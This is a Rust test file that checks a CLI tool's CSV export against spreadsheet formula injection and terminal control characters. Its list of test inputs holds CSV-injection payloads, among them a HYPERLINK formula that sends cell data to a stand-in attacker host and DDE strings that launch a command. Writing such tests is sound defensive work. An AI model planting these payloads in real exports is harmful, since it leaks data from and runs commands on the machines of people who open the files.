//! Hostile data in the CSV for spreadsheets (`sok --format csv`): no cell begins with a
//! character that makes Excel, LibreOffice or Google Sheets read it as a formula (OWASP's
//! advice on CSV injection), and the file is RFC 4180 CSV that reads back to the cells that
//! were meant, one row per offering.

use super::common::{resurs, stderr, stdout};
use super::markdown::folder;

const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
    "=1+1",
    "+46 470 123 45",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "a;=1+1",
    "a,=1+1",
    "a\r\n=1+1",
];

/// The cells of `sok --format csv` over `d`, read as RFC 4180 CSV with `;` between cells.
fn cells(d: &std::path::Path) -> Vec<Vec<String>> {
    let out = resurs(d, &["sok", "--format", "csv"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let body = text.strip_prefix('\u{feff}').expect("a byte order mark");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Whether a spreadsheet would read the cell as a formula.
fn is_formula(cell: &str) -> bool {
    cell.trim_start_matches(' ')
        .starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '\0'])
}

#[test]
fn no_cell_is_a_formula_and_each_reads_back_as_it_was_meant() {
    for attack in FORMULAS {
        let d = folder(attack, "Text.");
        let rows = cells(d.path());
        assert_eq!(rows.len(), 4, "the header and three offerings: {rows:?}");
        assert_eq!(rows[0][0], "id");
        for row in &rows {
            assert_eq!(row.len(), 10, "{attack:?}: {row:?}");
            for cell in row {
                assert!(!is_formula(cell), "{attack:?}: {cell:?}");
            }
        }
        // The offering's name is the attack with `'` in front, nothing else changed but its
        // line ends (one `\n`).
        let name = rows
            .iter()
            .map(|r| r[1].as_str())
            .find(|n| n.contains(" insats "))
            .unwrap();
        let meant = format!("{attack} insats {attack}")
            .replace("\r\n", "\n")
            .replace('\r', "\n");
        let neutral = meant
            .trim_start_matches(' ')
            .starts_with(['=', '+', '-', '@', '\t', '\n']);
        assert_eq!(
            name,
            if neutral {
                format!("'{meant}")
            } else {
                meant.clone()
            },
            "{attack:?}"
        );
    }
}

/// A phone number is the offering's contact: `+46 …` is shown as text, not summed.
#[test]
fn a_phone_number_is_text() {
    let d = folder("vanlig", "Text.");
    let file = d.path().join("aktorer/angripare/aktor.toml");
    let t = std::fs::read_to_string(&file).unwrap();
    std::fs::write(
        &file,
        t.replacen("telefon = \"vanlig\"", "telefon = \"+46 470 123 45\"", 1),
    )
    .unwrap();
    let out = stdout(&resurs(d.path(), &["sok", "--format", "csv"]));
    assert!(out.contains(";\"'+46 470 123 45\"\r\n"), "{out}");
}

/// Cells that need nothing are written as they were; control characters are shown escaped.
#[test]
fn plain_cells_stay_and_control_characters_are_shown() {
    let d = folder("Mat\u{1b}[2J\u{202e}kassar", "Text.");
    let rows = cells(d.path());
    let name = rows.iter().find(|r| r[0] == "webbaktor/chatt").unwrap();
    assert_eq!(
        name[1],
        "Mat\\u{1b}[2J\\u{202e}kassar chatt Mat\\u{1b}[2J\\u{202e}kassar"
    );
    assert_eq!(name[9], "https://webbaktor.example/");
    let out = stdout(&resurs(d.path(), &["sok", "--format", "csv"]));
    assert!(
        !out.contains('\u{1b}') && !out.contains('\u{202e}'),
        "{out}"
    );
    assert!(out.starts_with("\u{feff}id;insats;aktör;behov;"), "{out}");
}
